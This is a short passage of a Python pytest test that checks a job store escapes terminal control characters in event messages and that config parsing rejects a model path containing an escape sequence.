    got = [e.message for e in store.events(j.job_id)]
    assert "\x1b" not in got[0] and "\x07" not in got[0] and got[0].startswith("\\x1b[2J")
    assert got[1] == "plain text"
    message = store.get_job(j.job_id).message
    assert "\x1b" not in message and "\nnext line" in message
    with pytest.raises(ConfigError, match="control characters"):
        parse_config({"model": "/models/x\x1b]0;TITLE\x07"})
